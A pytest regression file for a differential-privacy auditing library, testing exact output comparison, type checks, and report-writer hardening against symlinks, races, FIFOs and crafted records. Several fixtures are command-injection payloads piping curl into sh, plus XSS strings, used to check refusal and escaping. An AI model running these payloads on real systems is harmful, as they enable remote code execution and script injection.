"""Reliability regression tests, third round: each failed on the code before its fix.

Engine: exact outcomes of object outputs (a missed violation), output types that change mid-run,
``sequential_audit``'s checks and limits. Reports and the CLI: writes through symlinks, concurrent
writers on one ``--out``, atomic replacement of records, the fallback walk, shell-quoted commands,
escaped Markdown, bounded saved records.
"""

from __future__ import annotations

import decimal
import fractions

import numpy as np
import pytest

from dpaudit.blackbox.empirical_audit import audit
from dpaudit.blackbox.sequential import sequential_audit


def _randomized_response(a, b, p=0.9, rows=False):
    """Randomized response over the labels ``a``/``b``: true epsilon ln(p / (1 - p)) (ln 9)."""
    def mechanism(data, n, rng):
        hit = rng.random(n) < (p if data else 1.0 - p)
        out = [a if h else b for h in hit]
        if rows:
            out = [[v, 7] for v in out]
        return np.array(out, dtype=object)
    return mechanism


_INEXACT_LABELS = [
    pytest.param(2**64, 2**64 + 1, False, id="big-ints"),
    pytest.param(fractions.Fraction(1, 3), fractions.Fraction(1, 3) + fractions.Fraction(1, 10**30),
                 False, id="fractions"),
    pytest.param(decimal.Decimal(1), decimal.Decimal("1." + "0" * 30 + "1"), False, id="decimals"),
    pytest.param(2**64, 2**64 + 1, True, id="rows-of-big-ints"),
    pytest.param(-2**63 - 5, -2**63 - 6, False, id="below-int64"),
]


@pytest.mark.parametrize("a, b, rows", _INEXACT_LABELS)
def test_labels_beyond_int64_or_float64_stay_distinct_in_audit(a, b, rows) -> None:
    # Before: both labels became the same float64: bound 0, "not violated" (true epsilon ln 9).
    r = audit(_randomized_response(a, b, rows=rows), 0, 1, epsilon=1.0, samples=20_000, seed=0)
    assert r.verdict == "violated" and r.epsilon_lower_bound > 1.5


@pytest.mark.parametrize("a, b, rows", _INEXACT_LABELS)
def test_labels_beyond_int64_or_float64_stay_distinct_in_sequential_audit(a, b, rows) -> None:
    s = sequential_audit(_randomized_response(a, b, rows=rows), 0, 1, epsilon=1.0,
                         max_samples=20_000, seed=0)
    assert s.verdict == "violated"


def test_deterministic_mechanism_on_big_ints_is_violated() -> None:
    mech = _randomized_response(2**64, 2**64 + 1, p=1.0)
    assert audit(mech, 0, 1, epsilon=1.0, samples=20_000, seed=0).verdict == "violated"
    assert sequential_audit(mech, 0, 1, epsilon=1.0, max_samples=5_000).verdict == "violated"


def test_exact_and_inexact_inputs_compare_as_exact_values() -> None:
    # data0 outputs only 2**64 + 1 (exact objects), data1 only small ints (int64 on its own):
    # both are kept exact so that the two inputs' outcomes compare.
    def mech(data, n, rng):
        return np.array([2**64 + 1 if data else 1] * n, dtype=object)
    assert audit(mech, 1, 0, epsilon=1.0, samples=20_000, seed=0).verdict == "violated"


def test_labels_ending_in_nul_given_as_a_list_are_refused() -> None:
    # Before: numpy dropped the trailing NUL and merged "x" and "x\x00": bound 0, "not violated".
    def labels(data, n, rng):
        hit = rng.random(n) < (0.9 if data else 0.1)
        return ["x" if h else "x\x00" for h in hit]
    with pytest.raises(ValueError, match=r"labels\(data0.*'x\\x00' in run \d+.*NUL"):
        audit(labels, 0, 1, epsilon=1.0, samples=20_000, seed=0)
    with pytest.raises(ValueError, match="NUL"):
        sequential_audit(labels, 0, 1, epsilon=1.0, max_samples=5_000)


def test_exactly_representable_object_numbers_still_convert() -> None:
    from dpaudit.blackbox.sampling import _coerce_objects

    assert _coerce_objects(np.array([1, 2**62], dtype=object), "m", 0).dtype == np.int64
    assert _coerce_objects(np.array([0.5, fractions.Fraction(1, 4)], dtype=object), "m",
                           0).dtype == np.float64
    assert _coerce_objects(np.array([decimal.Decimal("0.1")], dtype=object), "m",
                           0).dtype == np.float64
    exact = _coerce_objects(np.array([decimal.Decimal("0.1"), 0.1], dtype=object), "m", 0)
    assert exact.dtype == object and exact[0] != exact[1]


def _switching(first, later):
    """Returns ``first(n)`` on its first call on each input, ``later(n)`` afterwards."""
    calls = {}

    def switching(data, n, rng):
        calls[data] = calls.get(data, 0) + 1
        return first(n, rng) if calls[data] == 1 else later(n, rng)
    return switching


@pytest.mark.parametrize("later, now", [
    (lambda n, g: g.random(n) < 0.5, "boolean"),
    (lambda n, g: g.integers(0, 3, n), "integer"),
    (lambda n, g: np.array(["a"] * n), "string"),
])
def test_float_outputs_that_change_type_mid_run_name_the_mechanism_and_run(later, now) -> None:
    # Before: bool/int accepted silently; str gave numpy's raw message.
    mech = _switching(lambda n, g: g.normal(size=n), later)
    with pytest.raises(TypeError, match=rf"mechanism .*switching\(data0, n=\d+, rng\) returned "
                                        rf"{now} outputs .* in runs \d+\.\.\d+; its earlier calls "
                                        r"returned floating-point"):
        # rng_probe=False: the rng probe's extra calls on data0 would move the switch into the
        # probe (these mechanisms change type after their first call per input).
        audit(mech, 0, 1, epsilon=1.0, samples=20_000, seed=0, rng_probe=False)


def test_discrete_int_outputs_that_become_float_name_the_mechanism_and_run() -> None:
    # Before: "discrete outputs changed type: fitted on int64, got float64", no mechanism or run.
    mech = _switching(lambda n, g: g.integers(0, 2, n), lambda n, g: g.integers(0, 2, n) + 0.0)
    with pytest.raises(TypeError, match=r"switching\(data0.*returned floating-point outputs .* "
                                        r"in runs"):
        audit(mech, 0, 1, epsilon=1.0, samples=20_000, seed=0, rng_probe=False)


def _laplace(data, n, rng):
    return data + rng.laplace(0.0, 1.0, size=n)


def test_sequential_audit_accepts_epsilon_beyond_exp_overflow() -> None:
    # Before: OverflowError from math.exp (bundled claims reach epsilon 3000).
    for eps in (709.8, 3000.0):
        s = sequential_audit(_laplace, 0.0, 1.0, epsilon=eps, max_samples=2_000)
        assert s.verdict == "not violated" and s.betting_runs == 0


def test_sequential_audit_rounds_are_capped(monkeypatch) -> None:
    # Before: rounds grew as 64 x 1.5^k without bound (3.7 GiB in 38 s with max_samples=10**12).
    import dpaudit.blackbox.sequential as seq

    sizes = []
    monkeypatch.setattr(seq, "MAX_ROUND", 500)
    real = np.log1p

    def spy(x, *a, **k):
        sizes.append(np.size(x))
        return real(x, *a, **k)
    monkeypatch.setattr(seq.np, "log1p", spy)
    seq.sequential_audit(_laplace, 0.0, 0.0, epsilon=1.0, max_samples=20_000, train_samples=100)
    assert sizes and max(sizes) <= 500 and sum(sizes) == 20_000 - 100


@pytest.mark.parametrize("kwargs, exc, match", [
    (dict(mechanism=lambda d, n: d), TypeError, r"mechanism must be callable as mechanism\(data, "
                                                r"n, rng\)"),
    (dict(statistic=5), TypeError, "statistic must be callable"),
    (dict(statistic=lambda a, b: a), TypeError, "statistic must be callable as statistic"),
    (dict(data0=None, data1=None), ValueError, "both None"),
    (dict(alpha=5e-324), ValueError, r"at least 1e-300.*got 5e-324"),
])
def test_sequential_audit_checks_its_arguments_as_audit_does(kwargs, exc, match) -> None:
    # Before: raw TypeErrors from inside the engine; alpha=5e-324 reported as "got 0.0".
    args = dict(mechanism=_laplace, data0=0.0, data1=1.0, epsilon=1.0, max_samples=2_000)
    args.update(kwargs)
    with pytest.raises(exc, match=match):
        sequential_audit(**args)


def test_audit_names_a_subnormal_alpha() -> None:
    with pytest.raises(ValueError, match=r"at least 1e-300.*got 5e-324"):
        audit(_laplace, 0.0, 1.0, epsilon=1.0, alpha=5e-324, samples=2_000)


# ------------------------------------------------------------------------------------------------
# Report directories: symlinks, one writer, atomic replacement, the fallback walk, crafted files
# ------------------------------------------------------------------------------------------------

import errno  # noqa: E402
import json  # noqa: E402
import os  # noqa: E402
import shlex  # noqa: E402
import signal  # noqa: E402
from pathlib import Path  # noqa: E402

from dpaudit import cli  # noqa: E402
from dpaudit.claims import registry  # noqa: E402
from dpaudit.reporting import writer  # noqa: E402
from fake_claims import A, B, fake_audit, fake_claim, audit_both, register_fakes, run  # noqa: E402

HOSTILE = "<script>alert(1)</script> <img src=x onerror=alert(2)> [click](javascript:alert(3))"


@pytest.fixture
def fakes(monkeypatch) -> None:
    register_fakes(monkeypatch)   # A holds, B is violated (exact 2 > 1)


def _snapshot(folder: Path) -> dict[str, tuple[int, int]]:
    return {p.name: (p.stat().st_size, p.stat().st_mtime_ns) for p in folder.iterdir()}


def test_report_does_not_write_or_delete_through_a_symlinked_claim_folder(tmp_path, fakes,
                                                                            capsys) -> None:
    # Before: report wrote .html/.md/PNGs into the link's target and deleted figures there.
    out, elsewhere = tmp_path / "out", tmp_path / "elsewhere"
    assert audit_both(capsys, out) == cli.EXIT_VIOLATED
    (out / "fake-colt").rename(elsewhere)
    (out / "fake-colt").symlink_to(elsewhere, target_is_directory=True)
    (elsewhere / "a.regret.png").write_bytes(b"not ours")
    before = _snapshot(elsewhere)
    status, _, err = run(capsys, "report", str(out))
    assert status == cli.EXIT_USAGE and "symbolic link" in err and "fake-colt" in err
    assert _snapshot(elsewhere) == before


def test_report_does_not_write_through_a_symlinked_papers_folder(tmp_path, fakes, capsys) -> None:
    out, elsewhere = tmp_path / "out", tmp_path / "elsewhere"
    assert audit_both(capsys, out) == cli.EXIT_VIOLATED
    elsewhere.mkdir()
    import shutil

    shutil.rmtree(out / "papers")
    (out / "papers").symlink_to(elsewhere, target_is_directory=True)
    status, _, err = run(capsys, "report", str(out))
    assert status == cli.EXIT_USAGE and "symbolic link" in err
    assert list(elsewhere.iterdir()) == []
    # audit-claims refuses too (it writes the paper pages at the end).
    assert audit_both(capsys, out, "--fresh") == cli.EXIT_USAGE
    assert list(elsewhere.iterdir()) == []


def test_a_second_writer_on_one_out_is_refused(tmp_path, fakes, capsys) -> None:
    # Before: two runs on one --out raced on the manifest, the index and the stale-file sweep
    # (5 of 10 claims left in index.json; a killed second run deleted the first's record).
    out = tmp_path / "out"
    assert audit_both(capsys, out) == cli.EXIT_VIOLATED
    index = (out / "index.json").read_bytes()
    with writer.report_directory_lock(out):
        for argv in (["audit-claims", A, "--budget", "quick", "--fresh", "--out", str(out)],
                     ["report", str(out)]):
            status, _, err = run(capsys, *argv)
            assert status == cli.EXIT_USAGE, err
            assert f"another dpaudit run is writing the report directory {out} (pid " \
                   f"{os.getpid()})" in err
    assert (out / "index.json").read_bytes() == index
    assert run(capsys, "report", str(out))[0] == cli.EXIT_OK  # released


def test_concurrent_processes_on_one_out_never_lose_a_claim(tmp_path) -> None:
    # Two real processes started together on one --out: one audits, the other is refused; the
    # manifest and the index hold every claim of the run that audited.
    import subprocess
    import sys

    from fake_claim_scripts import fake_claims_script

    out = tmp_path / "out"
    procs = []
    for k in range(2):
        claims = [(f"race{k}/c{i}", 0.05) for i in range(30)]
        script = tmp_path / f"run{k}.py"
        script.write_text(fake_claims_script(claims, ["audit-claims", "--all", "--budget",
                                                      "quick", "--quiet", "--out", str(out)]))
        procs.append(subprocess.Popen([sys.executable, str(script)], stdout=subprocess.PIPE,
                                      stderr=subprocess.PIPE, text=True,
                                      env={**os.environ, "OPENBLAS_NUM_THREADS": "1"}))
    results = [(p.wait(120), p.stderr.read()) for p in procs]
    for p in procs:
        p.stdout.close()
        p.stderr.close()
    codes = sorted(code for code, _ in results)
    assert codes[0] == cli.EXIT_OK, results
    manifest = json.loads((out / writer.MANIFEST_NAME).read_text())["claims"]
    index = [c["id"] for c in json.loads((out / "index.json").read_text())["claims"]]
    assert index == manifest and len(manifest) in (30, 60)
    if codes[1] == cli.EXIT_USAGE:
        assert any("another dpaudit run" in err for _, err in results)
    for cid in manifest:
        assert writer.claim_paths(out, cid).json.is_file()


def test_an_interrupted_fresh_rerun_keeps_the_previous_record(tmp_path, fakes, capsys,
                                                               monkeypatch) -> None:
    # Before: the old JSON was deleted before the re-audit; a kill then lost it (report exit 2).
    out = tmp_path / "out"
    assert audit_both(capsys, out) == cli.EXIT_VIOLATED
    saved = writer.claim_paths(out, B).json.read_bytes()
    from dpaudit.runner import execute

    def killed(*a, **k):
        raise KeyboardInterrupt
    monkeypatch.setattr(execute, "audit_record", killed)
    status, _, err = run(capsys, "audit-claims", B, "--budget", "quick", "--fresh", "--out",
                         str(out))
    assert status == cli.EXIT_INTERRUPTED and "0 of 1 claims are finished" in err
    assert writer.claim_paths(out, B).json.read_bytes() == saved
    monkeypatch.undo()


def test_a_failed_rerun_with_other_settings_still_removes_the_old_record(tmp_path, fakes, capsys,
                                                                          monkeypatch) -> None:
    out = tmp_path / "out"
    assert audit_both(capsys, out) == cli.EXIT_VIOLATED
    from dpaudit.runner import execute

    def failing(*a, **k):
        raise ValueError("boom")
    monkeypatch.setattr(execute, "audit_record", failing)
    status, _, _ = run(capsys, "audit-claims", B, "--budget", "standard", "--out", str(out))
    assert status == cli.EXIT_FAILED
    assert not writer.claim_paths(out, B).json.exists()


def test_report_without_manifest_skips_fifos_and_device_links(tmp_path, fakes, capsys) -> None:
    # Before: the fallback walk opened a FIFO (hung forever) and /dev/zero (MemoryError).
    out = tmp_path / "out"
    assert audit_both(capsys, out) == cli.EXIT_VIOLATED
    (out / writer.MANIFEST_NAME).unlink()
    os.mkfifo(out / "fake-colt" / "fifo.json")
    (out / "zero.json").symlink_to("/dev/zero")
    previous = signal.signal(signal.SIGALRM, lambda *a: (_ for _ in ()).throw(TimeoutError()))
    signal.alarm(30)
    try:
        status, _, err = run(capsys, "report", str(out))
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, previous)
    assert status == cli.EXIT_OK, err


def test_a_listed_claim_that_is_a_fifo_is_an_error_naming_it(tmp_path, fakes, capsys) -> None:
    out = tmp_path / "out"
    assert audit_both(capsys, out) == cli.EXIT_VIOLATED
    target = writer.claim_paths(out, A).json
    target.unlink()
    os.mkfifo(target)
    status, _, err = run(capsys, "report", str(out))
    assert status == cli.EXIT_USAGE and "a.json is not a regular file" in err, err


def _edit(path: Path, **fields) -> None:
    record = json.loads(path.read_text())
    record.update(fields)
    path.write_text(json.dumps(record))


def test_a_shell_payload_in_a_saved_budget_is_refused(tmp_path, fakes, capsys) -> None:
    # Before: every report printed "... --budget quick $(curl ... | sh) #" to paste.
    out = tmp_path / "out"
    assert audit_both(capsys, out) == cli.EXIT_VIOLATED
    _edit(writer.claim_paths(out, A).json, budget="quick $(curl http://x | sh) #")
    status, _, err = run(capsys, "report", str(out))
    assert status == cli.EXIT_USAGE and "a.json" in err and "budget" in err


def test_commands_in_reports_are_shell_quoted(tmp_path, fakes, capsys, monkeypatch) -> None:
    out = tmp_path / "o $(touch pwned) x"
    assert audit_both(capsys, out) == cli.EXIT_VIOLATED
    index_md = (out / "index.md").read_text()
    assert "--out " + shlex.quote(str(out)) in index_md
    # A crafted "reproduce" (free text recorded by the audit function) is not shown as a command.
    _edit(writer.claim_paths(out, A).json, reproduce="dpaudit audit x; curl http://x | sh")
    assert run(capsys, "report", str(out))[0] == cli.EXIT_OK
    for suffix in (".md", ".html"):
        text = writer.claim_paths(out, A).json.with_suffix(suffix).read_text()
        assert "curl" not in text


def test_markdown_reports_do_not_pass_raw_html_or_javascript_links(tmp_path, capsys,
                                                                   monkeypatch) -> None:
    # Before: autoescape=False put <script>, <img onerror> and javascript: links into *.md.
    monkeypatch.setattr(registry, "_REGISTRY", {})
    monkeypatch.setattr(registry, "_loaded", True)
    registry.register(fake_claim(A, HOSTILE), fake_audit(A, 2.0, HOSTILE))
    out = tmp_path / "out"
    assert run(capsys, "audit-claims", A, "--budget", "quick", "--out", str(out))[0] == 1
    _edit(writer.claim_paths(out, A).json, reason=HOSTILE)
    assert run(capsys, "report", str(out))[0] == cli.EXIT_OK
    pages = [out / "index.md", writer.claim_paths(out, A).markdown, out / "papers" / "fake.md"]
    pages = [p for p in pages if p.exists()] + list((out / "papers").glob("*.md"))
    for page in pages:
        text = page.read_text()
        assert "<script" not in text and "<img" not in text, page
        assert "](javascript:" not in text, page


def test_markdown_code_spans_cannot_be_closed_early() -> None:
    from dpaudit.reporting.markdown import markdown_code

    span = markdown_code("a``<script>")
    assert span.startswith("```") and span.endswith("```")


CRAFTED = {
    "400-digit epsilon": lambda r: {**r, "claimed": {**r["claimed"], "epsilon": int("9" * 400)}},
    "claimed epsilon 0": lambda r: {**r, "claimed": {**r["claimed"], "epsilon": 0}},
    "deep nesting": None,  # 10^5 nested lists, spliced into the text below
    "huge reason": lambda r: {**r, "reason": "{" * 300_000},
    "huge histogram": lambda r: {**r, "histogram": {"edges": list(range(200_001)),
                                                     "counts0": [1] * 200_000,
                                                     "counts1": [1] * 200_000}},
}


@pytest.mark.parametrize("craft", sorted(CRAFTED))
def test_crafted_saved_records_are_refused_naming_the_file(tmp_path, fakes, capsys,
                                                           craft) -> None:
    # Before: exit 3 (OverflowError, ZeroDivisionError, RecursionError, MemoryError) or a
    # 135 s rendering.
    out = tmp_path / "out"
    assert audit_both(capsys, out) == cli.EXIT_VIOLATED
    path = writer.claim_paths(out, A).json
    record = json.loads(path.read_text())
    if craft == "deep nesting":
        text = json.dumps({**record, "extra": None}).replace('"extra": null',
                                                              '"extra": ' + "[" * 100_000
                                                              + "]" * 100_000)
    else:
        text = json.dumps(CRAFTED[craft](record))
    path.write_text(text)
    status, _, err = run(capsys, "report", str(out))
    assert status == cli.EXIT_USAGE, err
    assert "fake-colt/a.json" in err and "Traceback" not in err


def test_a_300_character_claim_id_is_a_usage_error(tmp_path, capsys, monkeypatch) -> None:
    # Before: exit 3 "File name too long".
    monkeypatch.setattr(registry, "_REGISTRY", {})
    monkeypatch.setattr(registry, "_loaded", True)
    cid = "fake-colt/" + "x" * 300
    registry.register(fake_claim(cid), fake_audit(cid, 1.0))
    status, _, err = run(capsys, "audit-claims", "--all", "--budget", "quick", "--out",
                         str(tmp_path / "out"))
    assert status == cli.EXIT_USAGE and "too long" in err


def test_out_slash_is_refused(fakes, capsys) -> None:
    # Before: reports were written into the root directory without a word.
    before = set(os.listdir("/"))
    status, _, err = run(capsys, "audit-claims", A, "--budget", "quick", "--out", "/")
    assert status == cli.EXIT_USAGE and "system or home directory" in err
    assert set(os.listdir("/")) == before


def test_report_on_a_full_or_read_only_directory_exits_2_naming_the_file(tmp_path, fakes, capsys,
                                                                        monkeypatch) -> None:
    # Before: exit 3, and "No space left on device" without a path.
    out = tmp_path / "out"
    assert audit_both(capsys, out) == cli.EXIT_VIOLATED

    def full(path, data):
        raise OSError(errno.ENOSPC, "No space left on device")
    monkeypatch.setattr(writer, "_atomic_write", full)
    status, _, err = run(capsys, "report", str(out))
    assert status == cli.EXIT_USAGE and "No space left on device" in err
    assert str(out / "fake-colt") in err


def test_a_disk_filling_mid_run_names_the_file_and_indexes_what_finished(tmp_path, fakes, capsys,
                                                                         monkeypatch) -> None:
    out = tmp_path / "out"
    real = writer._atomic_write

    def filling(path, data):  # the disk fills while B's files are written
        if Path(path).name.startswith("b."):
            raise OSError(errno.ENOSPC, "No space left on device")
        return real(path, data)
    monkeypatch.setattr(writer, "_atomic_write", filling)
    status, _, err = run(capsys, "audit-claims", A, B, "--budget", "quick", "--out", str(out))
    assert status == cli.EXIT_FAILED
    assert "No space left on device" in err and str(out / "fake-colt" / "b.") in err
    assert [c["id"] for c in json.loads((out / "index.json").read_text())["claims"]] == [A]


# ------------------------------------------------------------------------------------------------
# Executors: task errors are not retried, workers die with their parent, the scheduler is named
# ------------------------------------------------------------------------------------------------

def test_a_task_error_on_dask_is_sent_back_not_raised_for_retries() -> None:
    # Before: the worker raised, Dask retried the deterministic failure 3 times (31 tracebacks).
    import cloudpickle

    from dpaudit.execution import executors

    def failing(shared, item):
        raise TypeError(f"mechanism m returned string outputs in runs {item}..9")
    got = executors._call_blobs(cloudpickle.dumps(failing), cloudpickle.dumps(None),
                                cloudpickle.dumps(0), "token-r3")
    assert isinstance(got, executors._TaskFailed)
    exc = got.exception()
    assert isinstance(exc, TypeError) and "mechanism m returned string outputs" in str(exc)


def test_a_mechanism_changing_type_on_dask_names_it_once(capsys) -> None:
    from dpaudit.execution.executors import DaskExecutor

    calls = {"n": 0}

    def flips(data, n, rng):  # floats in training, strings in the test blocks
        return rng.normal(size=n) if n <= 5_000 else np.array(["a"] * n)
    ex = DaskExecutor(workers=1)
    try:
        with pytest.raises(TypeError, match=r"flips\(data\d.*returned string outputs"):
            audit(flips, 0, 1, epsilon=1.0, samples=40_000, seed=0, executor=ex)
    finally:
        ex.close()
    assert calls["n"] == 0
    assert capsys.readouterr().err.count("Traceback") == 0


def test_the_dask_executor_names_the_scheduler_it_connects_to(capsys) -> None:
    from distributed import LocalCluster

    from dpaudit.execution.executors import DaskExecutor

    cluster = LocalCluster(n_workers=1, threads_per_worker=1, processes=False,
                           dashboard_address=None)
    try:
        ex = DaskExecutor(scheduler=cluster.scheduler_address)
        ex.close()
    finally:
        cluster.close()
    err = capsys.readouterr().err
    assert f"using the Dask scheduler at {cluster.scheduler_address}" in err
    assert "can run code in this process" in err


WORKERS_SCRIPT = '''
import os, sys, time
from dpaudit.execution.executors import ProcessExecutor

def task(shared, i):
    with open(os.path.join(sys.argv[1], f"w{i}"), "w") as fh:
        fh.write(str(os.getpid()))
    time.sleep(120)

for _ in ProcessExecutor(workers=2).map_unordered(task, [0, 1]):
    pass
'''


def test_workers_die_with_their_parent(tmp_path) -> None:
    # Before: after a SIGKILL of the parent alone, orphan workers ran ~30 s more.
    import subprocess
    import sys
    import time

    script = tmp_path / "workers.py"
    script.write_text(WORKERS_SCRIPT)
    proc = subprocess.Popen([sys.executable, str(script), str(tmp_path)],
                            env={**os.environ, "OPENBLAS_NUM_THREADS": "1"})
    deadline = time.monotonic() + 60
    while not ((tmp_path / "w0").exists() and (tmp_path / "w1").exists()):
        assert time.monotonic() < deadline, "the workers never started"
        time.sleep(0.05)
    time.sleep(0.2)
    pids = [int((tmp_path / f"w{i}").read_text()) for i in range(2)]
    proc.kill()
    proc.wait()
    deadline = time.monotonic() + 10
    alive = pids
    while alive and time.monotonic() < deadline:
        alive = [p for p in pids if _alive(p)]
        time.sleep(0.05)
    for p in alive:
        os.kill(p, signal.SIGKILL)
    assert not alive, "orphan workers outlived their parent"


def _alive(pid: int) -> bool:
    try:
        with open(f"/proc/{pid}/stat") as fh:
            return fh.read().split()[2] != "Z"
    except FileNotFoundError:
        return False


@pytest.mark.parametrize("tails", ["outliers", "only-extremes"])
def test_outliers_near_the_float_limit_give_finite_histogram_edges(tails) -> None:
    # Before: linspace overflow put NaN into the histogram edges (to_dict() not strict JSON) with
    # three RuntimeWarnings.
    import warnings

    def mechanism(data, n, rng):
        if tails == "only-extremes":
            return np.where(rng.random(n) < 0.5, 1.7e308, -1.7e308)
        x = data + rng.laplace(0.0, 1.0, size=n)
        x[0], x[1] = 1.7e308, -1.7e308
        return x
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        r = audit(mechanism, 0.0, 1.0, epsilon=1.0, samples=20_000, seed=0)
        json.dumps(r.to_dict(), allow_nan=False)
    assert r.verdict == "not violated"


def test_the_scale_out_security_note_exists() -> None:
    text = (Path(__file__).resolve().parents[1] / "docs" / "scale-out-security.md").read_text()
    assert "DASK_SCHEDULER_ADDRESS" in text and "run arbitrary code" in text


def test_the_schema_budgets_are_the_registered_budgets() -> None:
    from dpaudit.claims.context import BUDGETS
    from dpaudit.reporting.schema import load_schema

    assert load_schema("dpaudit.claim/1")["properties"]["budget"]["enum"] == list(BUDGETS)


def test_huge_histograms_are_merged_for_drawing_only() -> None:
    # Before: the figure drew every bin (2 x 10^6 bins: 135 s).
    n = 19_999
    record = {"figures": {"histogram": {"edges": [float(i) for i in range(n + 1)],
                                        "counts0": [1] * n, "counts1": [2] * n}}}
    drawn = writer._bounded_figures(record)["figures"]["histogram"]
    assert len(drawn["counts0"]) <= writer.MAX_FIGURE_BINS
    assert len(drawn["edges"]) == len(drawn["counts0"]) + 1 == len(drawn["counts1"]) + 1
    assert sum(drawn["counts0"]) == n and sum(drawn["counts1"]) == 2 * n
    assert drawn["edges"][0] == 0.0 and drawn["edges"][-1] == float(n)
    assert len(record["figures"]["histogram"]["counts0"]) == n  # the record is unchanged


def test_sigkill_during_a_fresh_rerun_keeps_the_previous_result(tmp_path) -> None:
    # Before: the old JSON was deleted before the re-audit started; after a SIGKILL, `report`
    # exited 2 and subset runs failed until an --all rerun.
    import subprocess
    import sys
    import time

    from fake_claim_scripts import fake_claims_script

    out = tmp_path / "out"
    env = {**os.environ, "OPENBLAS_NUM_THREADS": "1"}
    first = tmp_path / "first.py"
    first.write_text(fake_claims_script([("kill/a", 0.0)], ["audit-claims", "kill/a", "--budget",
                                                            "quick", "--quiet", "--out",
                                                            str(out)]))
    assert subprocess.run([sys.executable, str(first)], env=env, capture_output=True).returncode \
        == cli.EXIT_OK
    saved = (out / "kill/a.json").read_bytes()
    second = tmp_path / "second.py"
    second.write_text(fake_claims_script([("kill/a", 60.0)], ["audit-claims", "kill/a",
                                                              "--budget", "quick", "--fresh",
                                                              "--quiet", "--out", str(out)]))
    proc = subprocess.Popen([sys.executable, str(second)], env=env, stdout=subprocess.DEVNULL,
                            stderr=subprocess.DEVNULL)
    lock = out / ".dpaudit.lock"
    deadline = time.monotonic() + 8  # until the run holds the lock (old code: no lock file)
    while time.monotonic() < deadline and not (lock.exists()
                                               and lock.read_text().strip() == str(proc.pid)):
        time.sleep(0.05)
    time.sleep(1.5)  # inside the 60 s audit
    proc.kill()
    proc.wait()
    assert (out / "kill/a.json").read_bytes() == saved
    report = tmp_path / "report.py"
    report.write_text(fake_claims_script([("kill/a", 0.0)], ["report", str(out)]))
    assert subprocess.run([sys.executable, str(report)], env=env,
                          capture_output=True).returncode == cli.EXIT_OK


def test_long_double_outputs_beyond_float64_stay_distinct() -> None:
    # Found by the fuzzer: a list of np.longdouble became a float128 array, keyed as float64.
    third = np.longdouble(1) / 3
    r = audit(_randomized_response(third, third + np.longdouble(2) ** -62, p=1.0), 0, 1,
              epsilon=1.0, samples=8_000, seed=0)
    assert r.verdict == "violated"


def test_decimals_and_floats_of_one_double_are_not_merged() -> None:
    # Found by the fuzzer: 0.1 on one input, Decimal("0.1") on the other, both read as 0.1.
    mech = _randomized_response(0.1, decimal.Decimal("0.1"), p=1.0)
    with pytest.raises(TypeError, match="returned Decimals and floats"):
        audit(mech, 0, 1, epsilon=1.0, samples=8_000, seed=0)
    with pytest.raises(TypeError, match="returned Decimals and floats"):
        sequential_audit(mech, 0, 1, epsilon=1.0, max_samples=8_000)
